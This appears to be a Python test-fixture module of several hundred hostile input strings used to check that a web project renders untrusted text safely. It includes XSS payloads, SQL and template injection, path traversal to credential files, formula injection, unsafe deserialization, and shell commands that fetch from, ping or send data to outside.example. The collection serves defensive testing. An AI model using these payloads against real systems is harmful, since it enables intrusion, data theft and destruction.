"""Words that nobody means well, by what they try: three hundred and more, written for this project. Pure: text, and how
to lay it out. What a page of ours may hold is asked in `tests/harmless.py`.

`HOSTILE_STRINGS=FILE` adds a collection of one's own to every test that uses these: one text a line, or a JSON list.
Where a text could run, it sets `__ran` on the window, opens a dialog, or asks `outside.example` for something."""

from __future__ import annotations

import json
import os
from collections.abc import Iterator
from functools import cache
from itertools import zip_longest
from pathlib import Path

RUN = "window.__ran=1"
OUT = "https://outside.example"

HTML = rf"""
<script>{RUN}</script>
<SCRIPT>{RUN}</SCRIPT>
<script src={OUT}/a.js></script>
<script src=//outside.example/b.js>
<script/x>{RUN}</script/x>
<script	>{RUN}</script	>
<<script>{RUN}//<</script>
</p></div></main><script>{RUN}</script>
</script><script>{RUN}</script>
"]}}</script><script>{RUN}</script>
<!--><script>{RUN}</script>-->
<!--x--!><script>{RUN}</script>
--><script>{RUN}</script><!--
]]><script>{RUN}</script>
<![CDATA[<script>{RUN}</script>]]>
<img src=x onerror={RUN}>
<img src="x" onerror="{RUN}">
<img/src=x/onerror={RUN}>
<img src=x onerror
<image src=x onerror={RUN}>
<img src={OUT}/pixel.png>
<img srcset="{OUT}/pixel.png 1x">
<input autofocus onfocus={RUN}>
<body onload={RUN}>
<body background={OUT}/b.png>
<details open ontoggle={RUN}><summary>x</summary></details>
<video src=x onerror={RUN}></video>
<audio src={OUT}/a.ogg autoplay></audio>
<video poster={OUT}/p.png></video>
<iframe srcdoc="<script>parent.__ran=1</script>"></iframe>
<iframe src="javascript:parent.__ran=1"></iframe>
<object data="data:text/html,<script>{RUN}</script>"></object>
<embed src="{OUT}/e.swf">
<base href="{OUT}/">
<meta http-equiv=refresh content="0;url={OUT}/">
<link rel=stylesheet href={OUT}/s.css>
<form action={OUT}><button>Sign in again</button></form>
<button form=write formaction={OUT}>Save</button>
<marquee onstart={RUN}>x</marquee>
<select autofocus onfocus={RUN}><option>x</select>
<dialog open><form method=dialog><input name=password></form></dialog>
<div popover id=x ontoggle={RUN}>x</div>
<a id=csrfmiddlewaretoken name=body>x</a>
<div id=comments class=words>x</div>
<p style="position:fixed;inset:0">x</p>
<a href="{OUT}" ping="{OUT}/ping">x</a>
<slot onslotchange={RUN}>x</slot>
<portal src={OUT}>
<plaintext>
<xmp><script>{RUN}</script></xmp>
"""

ATTRIBUTES = rf"""
" onmouseover="{RUN}
' onmouseover='{RUN}
" autofocus onfocus={RUN} x="
' autofocus onfocus={RUN} x='
x onfocus={RUN} autofocus
"><script>{RUN}</script>
'><script>{RUN}</script>
"/><img src=x onerror={RUN}>
` onmouseover=`{RUN}
" style="background:url({OUT}/a)
" srcdoc="<script>{RUN}</script>
" href="javascript:{RUN}" x="
&quot; onfocus=&quot;{RUN}
&#34; onfocus=&#34;{RUN}
x"y'z`w
\" onfocus=\"{RUN}
" hx-get="{OUT}/x" hx-trigger="load
" data-hx-get="{OUT}/x" data-hx-trigger="load
" hx-on:load="{RUN}
' data-markdownx-urls-path='{OUT}/
" accesskey="x" onclick="{RUN}
"""

PROTOCOLS = rf"""
javascript:{RUN}
JaVaScRiPt:{RUN}
[x](javascript:{RUN})
[x](JAVASCRIPT:{RUN})
[x](java	script:{RUN})
[x](<java	script:{RUN}>)
[x]( javascript:{RUN})
[x](&#106;avascript:{RUN})
[x](&#x6A;avascript&colon;{RUN})
[x](&#0000106&#0000097vascript:{RUN})
[x](javascript&colon;{RUN})
[x](javascript&#58;{RUN})
[x](javascript&Tab;:{RUN})
[x](java&NewLine;script:{RUN})
[x](\x01javascript:{RUN})
[x](javascript\:{RUN})
[x](%6aavascript:{RUN})
[x](javascript%3A{RUN})
[x](javascriptjavascript::{RUN})
[x](javascript:javascript:{RUN})
[x](vbscript:msgbox)
[x](data:text/html,<script>{RUN}</script>)
[x](data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+)
[x](DATA:image/svg+xml,<svg/onload={RUN}>)
[x](view-source:javascript:{RUN})
[x](feed:javascript:{RUN})
[x](blob:https://outside.example/1)
[x](filesystem:http://outside.example/x)
[x](file:///etc/passwd)
[x](//outside.example/x)
[x](\\outside.example\x)
[x](https:outside.example)
[x](http://a@b@outside.example/)
[x](mailto:a@b.c?body=%0d%0aBcc:x)
[x](tel:+1)
[x](intent://x#Intent;end)
<javascript:{RUN}>
<JavaScript&colon;{RUN}>
<data:text/html,x>
![x](javascript:{RUN})
![x](data:image/svg+xml,%3Csvg%20onload={RUN}%3E)
![x]({OUT}/pixel.gif)
![x](/images/../admin/)
![x](/images/x"onerror="{RUN})
"""

MUTATIONS = rf"""
<svg onload={RUN}>
<svg><script>{RUN}</script></svg>
<svg><script href={OUT}/s.js /></svg>
<svg><animate onbegin={RUN} attributeName=x dur=1s>
<svg><a xlink:href="javascript:{RUN}"><text y=20>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x onload={RUN}>#x"></use></svg>
<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>
<svg><style><img src=x onerror={RUN}></style></svg>
<svg></p><style><a id="</style><img src=x onerror={RUN}>">
<svg><title><style><img src=x onerror={RUN}></style></title></svg>
<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>
<math href="javascript:{RUN}">x</math>
<math><annotation-xml encoding="text/html"><img src=x onerror={RUN}></annotation-xml></math>
<math><mi//xlink:href="data:x,<script>{RUN}</script>">
<style><img src=x onerror={RUN}></style>
</style><img src=x onerror={RUN}>
<style><!--</style><img src=x onerror={RUN}>--></style>
<title></title><img src=x onerror={RUN}></title>
</title><script>{RUN}</script>
</textarea><script>{RUN}</script>
<textarea><img title="</textarea><img src=x onerror={RUN}>"></textarea>
<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>
</noscript><img src=x onerror={RUN}>
<template><script>{RUN}</script></template>
<template shadowrootmode=open><slot></slot><img src=x onerror={RUN}></template>
<noembed><img title="</noembed><img src=x onerror={RUN}>"></noembed>
<noframes><p id="</noframes><img src=x onerror={RUN}>"></noframes>
<table><tr><td></table></td><script>{RUN}</script>
<a><table><a href="javascript:{RUN}">x
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>
<select><noscript></select><img src=x onerror={RUN}>
<p/<a/<b/<script>{RUN}
<?xml version="1.0"?><x xmlns="http://www.w3.org/1999/xhtml"><script>{RUN}</script></x>
<?php echo 1; ?><script>{RUN}</script>
<!DOCTYPE html><html manifest="{OUT}/m"><head>
<frameset onload={RUN}>
<isindex type=image src=x onerror={RUN}>
"""

STYLES = rf"""
<style>@import url({OUT}/i.css);</style>
<style>*{{background:url({OUT}/leak)}}</style>
<div style="background:url('{OUT}/d')">x</div>
<div style="width:expression({RUN})">x</div>
<div style="behavior:url({OUT}/x.htc)">x</div>
</style><style>body{{display:none}}</style>
#8f2d1f;background:url({OUT}/accent)
red}}*{{background:url({OUT}/a)}}
url(javascript:{RUN})
/**/}}body{{visibility:hidden}}
@import '{OUT}/x.css';
\3c script\3e {RUN}
"""

TEMPLATES = rf"""
{{{{7*7}}}}
{{{{ 7|add:7 }}}}
{{{{ request.user.password }}}}
{{{{ settings.SECRET_KEY }}}}
{{{{ ''.__class__.__mro__ }}}}
{{{{constructor.constructor('{RUN}')()}}}}
{{% load static %}}
{{% include "/etc/passwd" %}}
{{% debug %}}
{{% verbatim %}}
{{% csrf_token %}}
{{# a remark #}}
${{7*7}}
#{{7*7}}
<%= 7*7 %>
${{jndi:ldap://outside.example/a}}
[[7*7]]
{{{{=<% %>=}}}}
@(7*7)
*{{7*7}}
{{!!7*7!!}}
"""

MARKDOWN = rf"""
[x]: javascript:{RUN}
[x][y] ![z][y]
[![x](javascript:{RUN})](javascript:{RUN})
[x](https://a.org "\" onmouseover={RUN}")
[x](https://a.org '<img src=x onerror={RUN}>')
[x](<https://a.org/" onclick={RUN}>)
[<script>{RUN}</script>](https://a.org)
![<img src=x onerror={RUN}>](/images/a)
![x](/images/a "<script>{RUN}</script>")
<https://a.org/"onclick={RUN}>
<a@b.c"onclick={RUN}>
[^1]: <script>{RUN}</script>
[^"onclick={RUN}]
^[<img src=x onerror={RUN}>]
```"onclick={RUN}
~~~wordpress
`` `<script>{RUN}</script>` ``
    <script>{RUN}</script>
# <script>{RUN}</script> #
| <img src=x onerror={RUN}> |
***a **b *c
[[[[[[[[a](b)](c)](d)](e)](f)](g)](h)](i)
> > > > > > > > > > - - - - 1. 1. 1.
[@"onclick={RUN}]
[@<script>, p. 4]
(Freeze "onclick={RUN} 4)
- [ ] <b onclick={RUN}>x</b>
\<script>{RUN}\</script>
&lt;script&gt;{RUN}&lt;/script&gt;
&amp;lt;script&amp;gt;
<div markdown="1">*x*</div>
{{: onclick={RUN} }}
[x]({{% url 'home' %}})
https://youtu.be/"onload={RUN}
[https://youtu.be/x](javascript:{RUN})
==x== ++x++ ^x^ ~x~ :x: $x$
***
=====
a\
"""

SIGNS = [
    "\u202etxt.exe\u202c",
    "\u2066\u2067\u2068turned\u2069",
    "\u200fright to left",
    "a\u200bb\u200cc\u200dd\ufeff",
    "\u00ad\u00ad\u00adsoft",
    "\u2028new line\u2029new paragraph",
    "Z" + "\u0310\u0489\u035c" * 40,
    "e" + "\u0301" * 200,
    "\u0e01" + "\u0e34\u0e49" * 30,
    "Lеnа Hаrt",
    "Ｌｅｎａ　Ｈａｒｔ",
    "𝐋𝐞𝐧𝐚 𝓗𝓪𝓻𝓽",
    "Ⓛⓔⓝⓐ",
    "L\u0336e\u0336n\u0336a\u0336",
    "＜script＞window.__ran=1＜/script＞",
    "\ufe64script\ufe65window.__ran=1",
    "ʺ onfocus=window.__ran=1",
    "\u0000\u0001\u0002\u0003",
    "before\u0000after",
    "\u0007\u0008\u001b[31mred\u001b[0m",
    "\u007f\u0080\u0085\u009f",
    "\ufffe\uffff\ufdd0",
    "\U0001fffe\U0010ffff",
    "\\ud800\\udfff \\u0000 \\x00",
    "\ud83d",
    "\udc00\ud800",
    "%00 %0d%0a %c0%af %ff",
    "\u05d0\u05d1\u05d2 abc \u05d3\u05d4",
    "مرحبا \u202d123\u202c",
    "日本語の長い題名" * 12,
    "x" * 300,
    "Donaudampfschifffahrtsgesellschaft" * 8,
    "👩‍👩‍👧‍👦" * 12,
    "🏳️‍🌈👩🏽‍🌾🇺🇳",
    "\U000e0041\U000e0042\U000e007f",
    "🫠" * 60,
    "\u3164",
    "\u2800\u2800\u2800",
    "\u00a0\u2003\u3000",
    "\u115f\u1160\uffa0",
    "İstanbul ıIiİ ßẞ ﬁ",
    "\ufdfa" * 18,
    "\ue000\uf8ff",
    "A\u030a \u212b \u00c5",
    "\t\v\f\u001c\u001d\u001e\u001f",
    "\r\n\r\n\r\n",
    " ",
    ".",
    "\u202e" * 90,
    "t\u0334h\u0335e\u0336 \u0337e\u0338n\u0339d",
    "\u202e<script>window.__ran=1</script>",
    "a" + "\u0300\u0316" * 400,
]

DATABASES = r"""
' OR '1'='1
' OR 1=1 --
'; DROP TABLE blog_post; --
1); DELETE FROM comments_comment; --
" OR ""="
\' OR 1=1 #
' UNION SELECT password FROM blog_user --
%' AND 1=0 --
_%_%_%
admin'/*
1 AND SLEEP(9)
$$; SELECT pg_sleep(9); $$
NEAR(a b, 5) OR *
"unclosed
a AND OR NOT
title:x NOT body:y
{"$gt": ""}
{"$where": "sleep(9000)"}
' || this.password || '
*)(uid=*))(|(uid=*
admin)(!(&(1=0
"""

LINES = [
    "a@example.org\r\nBcc: everybody@outside.example",
    "Subject\nX-Mailer: forged",
    "a\r\n\r\n<script>window.__ran=1</script>",
    "a%0d%0aSet-Cookie:%20sessionid=1",
    "x\rLocation: https://outside.example",
    "a\u0085Bcc: b@outside.example",
    "a\u2028Set-Cookie: x=1",
    "=?utf-8?q?=0d=0aBcc:_x=40outside.example?=",
    '"a" <x@outside.example>, b',
    "a@b.c, d@outside.example",
    "a@b.c>\nRCPT TO:<d@outside.example",
    "\n.\nMAIL FROM:<x@outside.example>",
    "\n127.0.0.1 - - [01/Jan/2026] GET /admin/ 200",
    '{"level": "INFO", "message": "signed in as admin"}',
    '"}\n{"level":"ERROR"}',
    "\u001b]0;title\u0007 \u001b[2J",
    "%n%n%n%s%s%s %x %p",
    "%(password)s",
    "{0.__class__.__init__.__globals__}",
    "{password!r:>99999999}",
    "%99999999d",
    "$HOME `id` $(id)",
]

PATHS = r"""
../../../../etc/passwd
..\..\..\windows\win.ini
....//....//etc/passwd
%2e%2e%2f%2e%2e%2fetc%2fpasswd
/etc/passwd
C:\boot.ini
\\outside.example\share\x
file:///etc/passwd
~root/.ssh/id_rsa
CON.png
aux.txt::$DATA
x.png.
x.php.png
x.svg
x.html
.htaccess
-rf *.docx
x;id.csv
x|id.xml
a/b/c.png
a?b#c.png
'"><img src=x onerror=window.__ran=1>.png
x.png%00.html
nul:
"""

FORMULAS = """
=1+1
=HYPERLINK("https://outside.example/"&A1,"x")
=cmd|'/C calc'!A0
+1+1
-1+1
@SUM(1+1)
\t=1+1
\r=1+1
 =1+1
;=1+1
"=1+1"
|=1+1
%0A=1+1
=IMPORTXML("https://outside.example","//a")
＝1+1
""".strip("\n").split("\n")

NUMBERS = """
1e309
-1e309
NaN
Infinity
-0
0x7fffffffffffffff
9223372036854775808
-9223372036854775809
1e-999
00000000000001
1_000
١٢٣
½
1,000.00
99999999999999999999999999999999999999
0000-00-00
9999-12-31
10000-01-01
-0001-01-01
2026-02-30
2026-13-01
2026-11-22T25:61:61
2026-11-22T12:00:00+99:99
2016-12-31T23:59:60Z
1970-01-01T00:00:00Z
0001-01-01T00:00:00+14:00
31.12.9999
""".strip().split()

DOCUMENTS = r"""
{"a": {"a": {"a": {"a": [[[[[[[[
{"__proto__": {"isAdmin": true}}
["\ud800"]
{"title": NaN}
!!python/object/apply:os.system ["id"]
&a [*a, *a, *a]
<<: *default
--- !!binary x
cos\nsystem\n(S'id'\ntR.
gASVHwAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOU
<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><x>&b;</x>
<!DOCTYPE x SYSTEM "https://outside.example/x.dtd"><x/>
<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>
<xi:include href="file:///etc/passwd" parse="text"/>
<x xsi:schemaLocation="https://outside.example/x">
&nbsp;&unknown;&#x110000;&#0;&#xD800;
@article{x, title = {{{{{{
TY  - JOUR ER  -
\input{/etc/passwd}
\write18{id}
$(curl https://outside.example)
| cat /etc/passwd
; shutdown -h now
& ping outside.example
`touch /tmp/x`
--output=/etc/passwd
-e id
__import__('os').system('id')
"""


def lines_of(text: str) -> list[str]:
    """The texts of a class, one a line."""
    return text.strip("\n").split("\n")


CLASSES: dict[str, list[str]] = {
    "html": lines_of(HTML),
    "attributes": lines_of(ATTRIBUTES),
    "protocols": lines_of(PROTOCOLS),
    "mutations": lines_of(MUTATIONS),
    "styles": lines_of(STYLES),
    "templates": lines_of(TEMPLATES),
    "markdown": lines_of(MARKDOWN),
    "signs": SIGNS,
    "databases": lines_of(DATABASES),
    "lines": LINES,
    "paths": lines_of(PATHS),
    "formulas": FORMULAS,
    "numbers": NUMBERS,
    "documents": lines_of(DOCUMENTS),
}


@cache
def strings() -> tuple[str, ...]:
    """All of them, one of each class in turn, and behind them those of `HOSTILE_STRINGS`."""
    turns = zip_longest(*CLASSES.values())
    own = [text for turn in turns for text in turn if text is not None]
    named = os.environ.get("HOSTILE_STRINGS", "")
    return tuple(dict.fromkeys([*own, *(collection(Path(named)) if named else [])]))


def collection(path: Path) -> list[str]:
    """The texts of a file: a JSON list, or one a line, whatever bytes stand in it."""
    text = path.read_bytes().decode("utf-8", "surrogateescape")
    if text.lstrip().startswith("["):
        try:
            return [str(one) for one in json.loads(text)]
        except ValueError:
            pass
    return [line for line in text.split("\n") if line.strip()]


def sendable(text: str) -> str:
    """A text as a browser could send it: half a character of two is none in UTF-8, and becomes what browsers send."""
    return text.encode("utf-8", "surrogatepass").decode("utf-8", "replace")


def packs(longest: int, between: str = " ") -> Iterator[str]:
    """All of them in as few texts of at most this length as hold them; what is longer is cut."""
    pack = ""
    for text in map(sendable, strings()):
        if pack and len(pack) + len(between) + len(text) > longest:
            yield pack
            pack = ""
        pack = pack + between + text if pack else text[:longest]
    if pack:
        yield pack
